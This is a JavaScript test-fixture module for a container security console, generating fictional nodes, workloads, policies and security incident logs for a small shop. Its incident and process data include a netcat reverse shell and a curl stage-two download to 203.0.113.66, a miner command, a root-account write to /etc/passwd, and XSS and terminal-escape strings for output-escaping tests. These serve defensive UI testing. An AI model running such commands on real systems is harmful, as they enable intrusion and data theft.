// Made-up but realistic state for the fixture controller: a small shop on three nodes.
// Limits: everything is in memory; `scale` multiplies the containers for load tests.

const HOUR = 3600;
let seed = 20260101;
/** Deterministic numbers, so that screenshots and tests repeat. */
export function random() {
  seed = (seed * 1103515245 + 12345) & 0x7fffffff;
  return seed / 0x7fffffff;
}
const pick = (list) => list[Math.floor(random() * list.length)];
const hex = (n) => Array.from({ length: n }, () => Math.floor(random() * 16).toString(16)).join('');
export const uuid = () => `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`;
export const now = () => Math.floor(Date.now() / 1000);
const iso = (seconds) => new Date(seconds * 1000).toISOString().replace(/\.\d+Z/, 'Z');

const COUNTERS = ['events_received', 'events_dropped', 'critical_dropped', 'execs_judged', 'execs_denied', 'files_judged',
  'files_denied', 'connects_denied', 'packets_dropped', 'killed_at_exec', 'failed_open', 'failed_closed', 'held', 'programs_missed', 'processes_untracked', 'start_to_enforced_count', 'start_to_enforced_p50_us', 'start_to_enforced_p99_us', 'start_to_enforced_max_us', 'spooled'];

const capability = (name, mechanism, strength, note = '') => ({ name, mechanism, strength, note });
const LSM = 'BPF-LSM needs "bpf" in the kernel parameter lsm=';
const TIERS = {
  'bpf-lsm': ['exec', 'drift', 'file-write', 'file-read', 'connect', 'packet', 'setuid', 'mount', 'ptrace'].map((n) =>
    capability(n, n === 'packet' ? 'cgroup-skb' : n === 'connect' ? 'cgroup-sock' : 'bpf-lsm', 'deny')),
  fanotify: [
    capability('exec', 'fanotify', 'deny'),
    capability('drift', 'kill-at-exec', 'kill', 'memfd and dropped files are killed before their first instruction'),
    capability('file-write', 'fanotify', 'deny', 'opens for writing only; rename and unlink are detected'),
    capability('file-read', 'fanotify', 'deny'),
    capability('connect', 'cgroup-sock', 'deny'),
    capability('packet', 'cgroup-skb', 'deny'),
    capability('setuid', 'kill', 'detect', LSM),
    capability('mount', null, 'none', LSM),
    capability('ptrace', null, 'detect', LSM),
  ],
  detect: [
    capability('exec', 'kill', 'kill', 'CAP_SYS_ADMIN is missing: start the enforcer as root'),
    capability('drift', 'kill', 'kill', 'killed after the fact'),
    capability('file-write', null, 'detect', 'fanotify refused: CAP_SYS_ADMIN is missing'),
    capability('file-read', null, 'none', 'fanotify refused: CAP_SYS_ADMIN is missing'),
    capability('connect', null, 'detect', 'no cgroup v2 hierarchy with BPF on this node'),
    capability('packet', null, 'none', 'no cgroup v2 hierarchy with BPF on this node'),
    capability('setuid', null, 'detect', LSM),
    capability('mount', null, 'none', LSM),
    capability('ptrace', null, 'none', LSM),
  ],
};

/** Why a tier is not higher, and what the kernel refused of it. */
const REASONS = {
  'bpf-lsm': ['the program of the hook bpf_token_create is left out: this kernel has no such hook'],
  fanotify: [LSM],
  detect: ['fanotify refused: CAP_SYS_ADMIN is missing: start the enforcer as root', LSM],
};

function makeNodes() {
  const spec = [
    ['edge-1', 'fanotify', '6.18.5', 8, { events_received: 48_211_093, execs_judged: 91_224, execs_denied: 41, files_judged: 220_187, files_denied: 12, connects_denied: 96, packets_dropped: 318, killed_at_exec: 7, held: 211, start_to_enforced_count: 211, start_to_enforced_p50_us: 1_480, start_to_enforced_p99_us: 9_210, start_to_enforced_max_us: 142_600 }],
    ['edge-2', 'bpf-lsm', '6.12.41', 16, { events_received: 61_902_771, execs_judged: 120_551, execs_denied: 9, files_judged: 308_410, files_denied: 3, connects_denied: 22 }],
    ['legacy-1', 'detect', '5.15.0', 4, { events_received: 9_120_004, events_dropped: 12_318, critical_dropped: 0, execs_judged: 20_117, failed_open: 3, spooled: 128 }],
  ];
  return spec.map(([name, tier, kernel, cpus, counters], i) => ({
    id: `${name}:${hex(12)}`, name, tier, kernel, cpus,
    os: i === 1 ? 'Debian GNU/Linux 13' : 'Debian GNU/Linux 12', runtime: i === 2 ? 'docker' : 'containerd', runtime_version: i === 2 ? '20.10.24' : '1.6.20',
    memory: cpus * 4 * 1024 ** 3, containers: 0, cgroup_version: i === 2 ? 1 : 2, platform: '', state: 'managed', policy_mode: 'Discover', profile_mode: 'Discover',
    interfaces: { eth0: [{ ip: `10.0.0.${10 + i}`, ip_prefix: 24 }] },
    capabilities: TIERS[tier], reasons: REASONS[tier] ?? [],
    counters: Object.fromEntries(COUNTERS.map((c) => [c, counters[c] ?? 0])),
    enforcer: { id: hex(32), version: '0.1.0', joined_at: iso(now() - 9 * 24 * HOUR), cpu: 0.004 + i * 0.006, memory: (64 + i * 21) * 1024 * 1024 },
  }));
}

const SERVICES = [
  // service, domain, image, replicas, policy mode, profile mode, baseline, port, app, processes
  ['web', 'shop', 'docker.io/library/nginx:1.27', 2, 'Protect', 'Protect', 'zero-drift', 80, 'HTTP', [['nginx', '/usr/sbin/nginx', 'nginx: master process nginx -g daemon off;', 'root', [['nginx', '/usr/sbin/nginx', 'nginx: worker process', 'nginx'], ['nginx', '/usr/sbin/nginx', 'nginx: worker process', 'nginx']]]]],
  ['api', 'shop', 'registry.shop.internal/api:2.14.3', 3, 'Monitor', 'Protect', 'basic', 8000, 'HTTP', [['python3.12', '/usr/local/bin/python3.12', 'python -m uvicorn shop.main:app --host 0.0.0.0 --port 8000', 'app', [['python3.12', '/usr/local/bin/python3.12', 'python -c from multiprocessing.spawn import spawn_main', 'app']]]]],
  ['db', 'shop', 'docker.io/library/redis:7.2', 1, 'Protect', 'Protect', 'zero-drift', 6379, 'Redis', [['redis-server', '/usr/local/bin/redis-server', 'redis-server *:6379', 'redis', []]]],
  ['worker', 'shop', 'registry.shop.internal/worker:2.14.3', 2, 'Monitor', 'Monitor', 'basic', 0, '', [['python3.12', '/usr/local/bin/python3.12', 'python -m celery -A shop worker -c 2', 'app', [['python3.12', '/usr/local/bin/python3.12', 'python -m celery -A shop worker -c 2', 'app']]]]],
  ['payments', 'shop', 'registry.shop.internal/payments:1.9.0', 1, 'Monitor', 'Monitor', 'zero-drift', 8443, 'SSL', [['payments', '/app/payments', '/app/payments serve --config /etc/payments.toml', 'nobody', []]]],
  ['prometheus', 'monitoring', 'docker.io/prom/prometheus:v3.5.0', 1, 'Discover', 'Discover', 'basic', 9090, 'HTTP', [['prometheus', '/bin/prometheus', '/bin/prometheus --config.file=/etc/prometheus/prometheus.yml', 'nobody', []]]],
  ['grafana', 'monitoring', 'docker.io/grafana/grafana:12.1.0', 1, 'Discover', 'Discover', 'basic', 3000, 'HTTP', [['grafana', '/usr/share/grafana/bin/grafana', 'grafana server', 'grafana', []]]],
  ['ci-runner', 'ops', 'registry.shop.internal/runner:3', 1, 'Discover', 'Monitor', 'basic', 0, '', [['runner', '/usr/bin/runner', 'runner --unattended', 'runner', [['bash', '/bin/bash', 'bash -c make -j4 test', 'runner'], ['make', '/usr/bin/make', 'make -j4 test', 'runner']]]]],
];

function makeWorkloads(nodes, scale) {
  const list = [];
  let ip = 10;
  for (let copy = 0; copy < scale; copy++) {
    for (const [service, domain, image, replicas, policyMode, profileMode, baseline, port, app, tree] of SERVICES) {
      for (let r = 0; r < replicas; r++) {
        const node = nodes[(list.length + r) % nodes.length];
        const id = hex(64);
        const suffix = copy ? `-${copy}` : '';
        const name = `${service}-${r + 1}${suffix}`;
        node.containers++;
        list.push({
          id, name, display_name: name, pod_name: '', image, image_id: `sha256:${hex(64)}`, image_digest: [`sha256:${hex(64)}`],
          domain, service: `${service}.${domain}`, service_group: `nv.${service}.${domain}`, state: { Discover: 'discover', Monitor: 'monitor', Protect: 'protect' }[policyMode],
          policy_mode: policyMode, profile_mode: profileMode, baseline_profile: baseline, platform_role: '', author: '', share_ns_with: '',
          cap_sniff: false, cap_quarantine: true, cap_change_mode: true, privileged: service === 'ci-runner', run_as_root: service === 'web',
          host_name: node.name, host_id: node.id, enforcer_id: node.enforcer.id, enforcer_name: node.name, network_mode: 'shop_default',
          created_at: iso(now() - (30 - r) * HOUR), started_at: iso(now() - (30 - r) * HOUR), finished_at: '', running: true, secured_at: iso(now() - (30 - r) * HOUR), exit_code: 0,
          interfaces: { eth0: [{ ip: `172.18.${Math.floor(ip / 250)}.${(ip++ % 250) + 1}`, ip_prefix: 16, gateway: '172.18.0.1' }, { ip: `fd00:18::${ip.toString(16)}`, ip_prefix: 64 }] },
          ports: port ? [{ ip_proto: 6, port, host_ip: '0.0.0.0', host_port: service === 'web' ? 8080 + r : 0 }] : [],
          labels: { 'com.docker.compose.project': domain, 'com.docker.compose.service': service, 'org.opencontainers.image.version': image.split(':')[1], maintainer: 'Shop Platform <platform@shop.example>' },
          applications: app ? [`TCP/${port}`, app] : [], memory_limit: 512 * 1024 * 1024, cpus: '', service_account: '', children: [],
          mounts: [{ source: `/var/lib/shop/${service}`, destination: '/data', read_only: false }, { source: '/etc/shop/tls', destination: '/etc/tls', read_only: true }],
          tree,
        });
      }
    }
  }
  const hostile = { ...structuredClone(list[list.length - 1]), id: hex(64), name: '<img src=x onerror=alert(1)>', display_name: '<img src=x onerror=alert(1)>\u001b[31mred\u202Egpj', image: 'evil"><script>alert(1)</script>:latest', labels: { note: '\u001b]0;owned\u0007 & <b>bold</b>' } };
  list.push(hostile);
  const stopped = { ...structuredClone(list[3]), id: hex(64), name: 'migrate-1', display_name: 'migrate-1', running: false, state: 'exit', exit_code: 137, finished_at: iso(now() - 2 * HOUR), tree: [] };
  list.push(stopped);
  return list;
}

function processes(workload) {
  let pid = 20000 + Math.floor(random() * 9000);
  const out = [];
  const started = now() - 30 * HOUR;
  const add = ([name, path, cmdline, user, children = []], parent, action = 'allow') => {
    const me = pid++;
    out.push({ pid: me, parent, group: me, session: me, name, path, cmdline, user, root: user === 'root', status: 'S', start_timestamp: started + out.length, action });
    for (const child of children) add(child, me, action);
  };
  for (const root of workload.tree) add(root, 1);
  if (workload.service === 'worker.shop') add(['sh', '/bin/sh', 'sh -i', 'app', [['curl', '/usr/bin/curl', 'curl -s http://203.0.113.66/stage2 -o /tmp/.x', 'app']]], out[0].pid, 'violate');
  return out;
}

const flatten = (nodes) => nodes.flatMap(([name, path, , user, children = []]) => [{ name, path, user }, ...flatten(children)]);

function makeGroups(workloads) {
  const groups = new Map();
  const profiles = new Map();
  const files = new Map();
  const stamp = now() - 8 * 24 * HOUR;
  const base = { comment: '', reserved: false, not_scored: false, creater_domains: [], kind: 'container', platform_role: '', monitor_metric: false, group_sess_cur: 0, group_sess_rate: 0, group_band_width: 0, cap_change_mode: true, cap_scorable: true };
  for (const [service, domain, , , policy, profile, baseline, , , tree] of SERVICES) {
    const name = `nv.${service}.${domain}`;
    groups.set(name, { ...base, name, learned: true, domain, cfg_type: 'learned', policy_mode: policy, profile_mode: profile, baseline_profile: baseline,
      criteria: [{ key: 'service', op: '=', value: `${service}.${domain}` }, { key: 'domain', op: '=', value: domain }] });
    const seen = new Set();
    const list = flatten(tree).filter((p) => !seen.has(p.path) && seen.add(p.path)).map((p) => ({ name: p.name, path: p.path, user: '', uid: 0, action: 'allow', cfg_type: 'learned', uuid: uuid(), group: name, allow_update: false, created_timestamp: stamp, last_modified_timestamp: stamp }));
    if (service === 'web') list.unshift({ name: 'sh', path: '/bin/sh', user: '', uid: 0, action: 'deny', cfg_type: 'user_created', uuid: uuid(), group: name, allow_update: false, created_timestamp: stamp + 4000, last_modified_timestamp: stamp + 9000 });
    profiles.set(name, { group: name, alert_disabled: false, hash_enabled: false, mode: profile, baseline, process_list: list });
    files.set(name, { group: name, filters: [
      { filter: '/etc/passwd', recursive: false, behavior: 'monitor_change', applications: [], cfg_type: 'system', type: 'regular' },
      { filter: '/etc/shadow', recursive: false, behavior: 'monitor_change', applications: [], cfg_type: 'system', type: 'regular' },
      { filter: '/usr/bin/*', recursive: true, behavior: 'monitor_change', applications: [], cfg_type: 'system', type: 'regular' },
      ...(service === 'payments' ? [{ filter: '/etc/payments.toml', recursive: false, behavior: 'block_access', applications: ['/app/payments'], cfg_type: 'user_created', type: 'regular' }] : []),
    ] });
  }
  const plain = (name, kind, extra = {}) => groups.set(name, { ...base, name, kind, learned: extra.reserved !== false, reserved: true, domain: '', cfg_type: 'learned', policy_mode: '', profile_mode: '', baseline_profile: '', cap_change_mode: false, criteria: [], ...extra });
  plain('external', 'external');
  plain('containers', 'container');
  plain('nodes', 'node', { policy_mode: 'Discover', profile_mode: 'Discover', baseline_profile: 'basic', cap_change_mode: true });
  plain('pci-scope', 'container', { reserved: false, cfg_type: 'user_created', comment: 'Everything that touches card data', criteria: [{ key: 'label', op: '=', value: 'scope=pci' }, { key: 'service', op: '=', value: 'payments.shop' }] });
  plain('partner-bank', 'address', { reserved: false, cfg_type: 'user_created', comment: 'Acquirer gateway', criteria: [{ key: 'address', op: '=', value: '198.51.100.0/24' }] });
  return { groups, profiles, files };
}

function makeRules() {
  const stamp = now() - 7 * 24 * HOUR;
  const rule = (id, from, to, ports, applications, action, cfg_type, extra = {}) => ({ id, comment: '', from, to, ports, applications, action, learned: cfg_type === 'learned', disable: false, created_timestamp: stamp, last_modified_timestamp: stamp + id, cfg_type, priority: 0, match_counter: Math.floor(random() * 90000), last_match_timestamp: now() - Math.floor(random() * 9000), ...extra });
  return [
    rule(1001, 'containers', 'external', 'tcp/25', ['any'], 'deny', 'user_created', { comment: 'No mail from workloads', match_counter: 4 }),
    rule(1002, 'pci-scope', 'partner-bank', 'tcp/443', ['SSL'], 'allow', 'user_created', { comment: 'Acquirer only' }),
    rule(1003, 'nv.ci-runner.ops', 'nv.db.shop', 'any', ['any'], 'deny', 'user_created', { comment: 'CI never touches production data', match_counter: 31 }),
    rule(10001, 'external', 'nv.web.shop', 'tcp/80', ['HTTP'], 'allow', 'learned'),
    rule(10002, 'nv.web.shop', 'nv.api.shop', 'tcp/8000', ['HTTP'], 'allow', 'learned'),
    rule(10003, 'nv.api.shop', 'nv.db.shop', 'tcp/6379', ['Redis'], 'allow', 'learned'),
    rule(10004, 'nv.worker.shop', 'nv.db.shop', 'tcp/6379', ['Redis'], 'allow', 'learned'),
    rule(10005, 'nv.api.shop', 'nv.payments.shop', 'tcp/8443', ['SSL'], 'allow', 'learned'),
    rule(10006, 'nv.prometheus.monitoring', 'nv.api.shop', 'tcp/8000', ['HTTP'], 'allow', 'learned'),
    rule(10007, 'nv.grafana.monitoring', 'nv.prometheus.monitoring', 'tcp/9090', ['HTTP'], 'allow', 'learned'),
    rule(10008, 'nv.ci-runner.ops', 'external', 'tcp/443', ['SSL'], 'allow', 'learned', { disable: true }),
  ];
}

function makeResponses() {
  const rule = (id, event, group, conditions, actions, extra = {}) => ({ id, event, comment: '', group, conditions, actions, webhooks: [], disable: false, cfg_type: 'user_created', match_counter: 0, last_match_timestamp: 0, ...extra });
  return [
    rule(1, 'security-event', 'pci-scope', [{ type: 'level', value: 'Critical' }], ['quarantine'], { comment: 'Card data first', match_counter: 2, last_match_timestamp: now() - 1800 }),
    rule(2, 'event', '', [{ type: 'name', value: 'Container.Stop' }], ['suppress-log'], { match_counter: 412, last_match_timestamp: now() - 60 }),
    rule(3, 'cve-report', '', [{ type: 'cve-critical', value: '5' }], ['quarantine'], { disable: true }),
  ];
}

function makeConversations(workloads) {
  const by = (service) => workloads.filter((w) => w.service === service && w.running);
  const out = [];
  const add = (from, to, port, application, action, policyId, bytes, sessions, extra = {}) => out.push({ from: from.id ?? from, to: to.id ?? to, port, application, action, policy_id: policyId, bytes, sessions, last: now() - Math.floor(random() * 600), client_ip: from.interfaces?.eth0[0].ip ?? '203.0.113.66', server_ip: to.interfaces?.eth0[0].ip ?? '203.0.113.66', ...extra });
  const cross = (a, b, ...rest) => a.forEach((x) => b.forEach((y) => add(x, y, ...rest)));
  cross(['external'], by('web.shop'), 'tcp/80', 'HTTP', 'allow', 10001, 91_233_001, 12_093);
  cross(by('web.shop'), by('api.shop'), 'tcp/8000', 'HTTP', 'allow', 10002, 48_120_330, 9_210);
  cross(by('api.shop'), by('db.shop'), 'tcp/6379', 'Redis', 'allow', 10003, 22_120_330, 31_210);
  cross(by('worker.shop'), by('db.shop'), 'tcp/6379', 'Redis', 'allow', 10004, 6_120_330, 4_210);
  cross(by('api.shop'), by('payments.shop'), 'tcp/8443', 'SSL', 'allow', 10005, 1_120_330, 810);
  cross(by('payments.shop'), ['external'], 'tcp/443', 'SSL', 'allow', 1002, 330_210, 210, { fqdn: 'gateway.acquirer.example', server_ip: '198.51.100.20' });
  cross(by('prometheus.monitoring'), by('api.shop'), 'tcp/8000', 'HTTP', 'allow', 10006, 930_210, 2_210);
  cross(by('grafana.monitoring'), by('prometheus.monitoring'), 'tcp/9090', 'HTTP', 'allow', 10007, 230_210, 410);
  cross(by('worker.shop').slice(0, 1), ['external'], 'tcp/4444', '', 'violate', 0, 4_410, 6, { server_ip: '203.0.113.66' });
  cross(by('web.shop').slice(0, 1), ['external'], 'tcp/4444', '', 'deny', 0, 0, 9, { server_ip: '203.0.113.66' });
  cross(by('ci-runner.ops').slice(0, 1), by('db.shop'), 'tcp/6379', 'Redis', 'deny', 1003, 0, 31);
  cross(by('web.shop').slice(1, 2), by('db.shop'), 'tcp/6379', 'Redis', 'deny', 0, 0, 3);
  cross(by('ci-runner.ops').slice(0, 1), ['external'], 'tcp/443', 'SSL', 'allow', 10008, 771_230_330, 331, { fqdn: 'deb.debian.org', server_ip: '151.101.2.132' });
  return out;
}

const LEVELS = ['Info', 'Notice', 'Warning', 'Error', 'Critical'];
function makeLogs(workloads, nodes) {
  const incidents = [];
  const violations = [];
  const threats = [];
  const events = [];
  const audits = [];
  const one = (service) => pick(workloads.filter((w) => w.service === service && w.running));
  const INCIDENTS = [
    ['web.shop', 'Process.Profile.Violation', 'Critical', 'deny', 'fanotify', 'sh', '/bin/sh', 'sh -c id; uname -a; cat /etc/passwd', 'nginx', 'Process profile violation, execution denied'],
    ['web.shop', 'Container.Suspicious.Process', 'Critical', 'deny', 'fanotify', 'nc', '/usr/bin/nc.openbsd', 'nc 203.0.113.66 4444 -e /bin/sh', 'sh', 'Suspicious process, execution denied'],
    ['db.shop', 'Process.Profile.Violation', 'Critical', 'deny', 'kill-at-exec', '.x', '/tmp/.x', '/tmp/.x --threads 8 --pool stratum+tcp://pool.example:3333', 'redis-server', 'Dropped binary, killed before its first instruction'],
    ['api.shop', 'Container.FileAccess.Violation', 'Critical', 'deny', 'fanotify', 'python3.12', '/usr/local/bin/python3.12', "python -c open('/etc/passwd','a').write('x::0:0::/:/bin/sh')", 'uvicorn', 'Write to a protected file denied', '/etc/passwd'],
    ['worker.shop', 'Process.Profile.Violation', 'Warning', 'violate', '', 'curl', '/usr/bin/curl', 'curl -s http://203.0.113.66/stage2 -o /tmp/.x', 'sh', 'Process profile violation'],
    ['ci-runner.ops', 'Container.Privilege.Escalation', 'Critical', 'violate', '', 'su', '/bin/su', 'su -', 'bash', 'Root privilege escalation'],
    ['payments.shop', 'Container.FileAccess.Violation', 'Warning', 'violate', '', 'cat', '/bin/cat', 'cat /etc/payments.toml', 'sh', 'Access to a protected file', '/etc/payments.toml'],
    ['worker.shop', 'Process.Profile.Violation', 'Warning', 'violate', '', 'sh', '/bin/sh', 'sh -c printf "\u001b[2J<script>alert(1)</script>"', 'python3.12', 'Process profile violation'],
  ];
  const common = (w, at, name, level) => ({ id: uuid(), name, level, reported_timestamp: at, reported_at: iso(at), cluster_name: 'cluster.local', host_id: w.host_id, host_name: w.host_name, enforcer_id: w.enforcer_id, enforcer_name: w.enforcer_name });
  const t = now();
  for (let i = 0; i < 320; i++) {
    const [service, name, level, action, mechanism, proc, path, cmd, parent, message, file] = pick(INCIDENTS);
    const w = one(service);
    const at = t - Math.floor(random() ** 1.6 * 24 * HOUR);
    incidents.push({ ...common(w, at, name, level), workload_id: w.id, workload_name: w.display_name, workload_domain: w.domain, workload_image: w.image, workload_service: w.service, group: w.service_group, rule_id: uuid(), proc_name: proc, proc_path: path, proc_cmd: cmd, proc_parent_name: parent, proc_parent_path: `/usr/bin/${parent}`, proc_real_user: 'app', proc_effective_user: name.includes('Escalation') ? 'root' : 'app', proc_real_uid: 1000, proc_effective_uid: name.includes('Escalation') ? 0 : 1000, file_path: file ?? '', action, verdict: action, operation: file ? 'open-write' : 'exec', proc_ancestors: [parent], mechanism, count: 1 + Math.floor(random() * 4), aggregation_from: at - 5, message });
  }
  for (let i = 0; i < 140; i++) {
    const deny = random() < 0.6;
    const w = one(deny ? pick(['web.shop', 'ci-runner.ops']) : 'worker.shop');
    const out = random() < 0.6;
    const server = out ? { id: 'external', display_name: 'external', domain: '', image: '', service: 'external' } : one('db.shop');
    const at = t - Math.floor(random() ** 1.6 * 24 * HOUR);
    violations.push({ ...common(w, at, 'Network.Violation', deny ? 'Critical' : 'Warning'), client_id: w.id, client_name: w.display_name, client_domain: w.domain, client_image: w.image, client_service: w.service, client_ip: w.interfaces.eth0[0].ip, server_id: server.id, server_name: server.display_name, server_domain: server.domain, server_image: server.image, server_service: server.service, server_ip: out ? '203.0.113.66' : server.interfaces.eth0[0].ip, server_port: out ? 4444 : 6379, ip_proto: 6, applications: out ? [] : ['Redis'], sessions: 1 + Math.floor(random() * 5), bytes: deny ? 0 : 4096, policy_action: deny ? 'deny' : 'violate', verdict: deny ? 'deny' : 'violate', mechanism: deny ? 'cgroup-sock' : '', policy_id: 0, fqdn: '', client_group: w.service_group });
  }
  for (let i = 0; i < 5; i++) {
    const w = one('web.shop');
    const at = t - Math.floor(random() * 20 * HOUR);
    threats.push({ ...common(w, at, pick(['DNS.Tunneling', 'SQL.Injection', 'TCP.SYN.Flood']), 'Critical'), threat_id: 2022, severity: 'Critical', action: 'deny', count: 2, client_workload_id: 'external', client_workload_name: 'external', server_workload_id: w.id, server_workload_name: w.display_name, server_workload_domain: w.domain, client_ip: '203.0.113.9', server_ip: w.interfaces.eth0[0].ip, client_port: 51234, server_port: 80, ip_proto: 6, application: 'HTTP', target: 'server', message: 'Pattern matched in the request', packet: '' });
  }
  const EVENTS = [['User.Login', 'User', 'Info', 'signed in'], ['Group.Change', 'Group', 'Info', 'mode of nv.web.shop changed from Monitor to Protect'], ['Agent.Start', 'Agent', 'Info', 'enforcer started'], ['Container.Start', 'Workload', 'Info', 'container started'], ['Container.Stop', 'Workload', 'Info', 'container stopped'], ['Policy.Change', 'Rule', 'Notice', 'network rule 1003 added'], ['Agent.Disconnect', 'Agent', 'Error', 'enforcer lost its connection'], ['User.Login.Failed', 'User', 'Warning', 'wrong password']];
  for (let i = 0; i < 160; i++) {
    const [name, category, level, message] = pick(EVENTS);
    const w = pick(workloads);
    const at = t - Math.floor(random() * 24 * HOUR);
    events.push({ ...common(w, at, name, level), workload_id: category === 'Workload' ? w.id : '', workload_name: category === 'Workload' ? w.display_name : '', workload_domain: w.domain, category, user: ['User', 'Group', 'Rule'].includes(category) ? pick(['admin', 'maria', 'ci-bot']) : '', user_addr: '10.0.0.77', rest_method: category === 'Rule' ? 'PATCH' : '', rest_request: category === 'Rule' ? '/v1/policy/rule' : '', message });
  }
  for (let i = 0; i < 4; i++) audits.push({ ...common(pick(workloads), t - i * 3 * HOUR, 'Container.Drift.Baseline', 'Info'), workload_name: '', message: 'Baseline of the image recorded', items: ['214 executables hashed'] });
  const order = (list) => list.sort((a, b) => b.reported_timestamp - a.reported_timestamp);
  return { incident: order(incidents), violation: order(violations), threat: order(threats), event: order(events), audit: order(audits) };
}

/** Everything the fixture controller knows. */
export function makeState({ scale = 1, password = 'admin', mustChange = false } = {}) {
  seed = 20260101;
  const nodes = makeNodes();
  const workloads = makeWorkloads(nodes, scale);
  const { groups, profiles, files } = makeGroups(workloads);
  return {
    nodes, workloads, groups, profiles, files, rules: makeRules(), responses: makeResponses(), conversations: makeConversations(workloads), logs: makeLogs(workloads, nodes),
    processes: new Map(workloads.map((w) => [w.id, w.running ? processes(w) : []])),
    users: new Map([
      ['admin', { fullname: 'admin', username: 'admin', server: '', email: '', role: 'admin', timeout: 300, locale: 'en', default_password: mustChange, modify_password: mustChange, role_domains: {}, last_login_timestamp: now() - 3000, last_login_at: iso(now() - 3000), login_count: 41, blocked_for_failed_login: false, blocked_for_password_expired: false, password }],
      ['maria', { fullname: 'maria', username: 'maria', server: '', email: 'maria@shop.example', role: 'reader', timeout: 300, locale: 'en', default_password: false, modify_password: false, role_domains: {}, last_login_timestamp: now() - 90000, last_login_at: iso(now() - 90000), login_count: 12, blocked_for_failed_login: false, blocked_for_password_expired: false, password: 'Reader-pass1' }],
    ]),
    config: { new_service_policy_mode: 'Discover', new_service_profile_mode: 'Discover', new_service_profile_baseline: 'basic', unused_group_aging: 24, cluster_name: 'cluster.local', net_service_status: false, net_service_policy_mode: 'Discover', strict_group_mode: false, fail_closed: false, event_retention_days: 30, mode_auto_d2m: false, mode_auto_d2m_duration: 604800, mode_auto_m2p: false, mode_auto_m2p_duration: 604800, syslog_status: false, syslog_ip: '', syslog_port: 514, auth_order: ['local'], xff_enabled: true, webhooks: [] },
    mustChange, levels: LEVELS,
  };
}
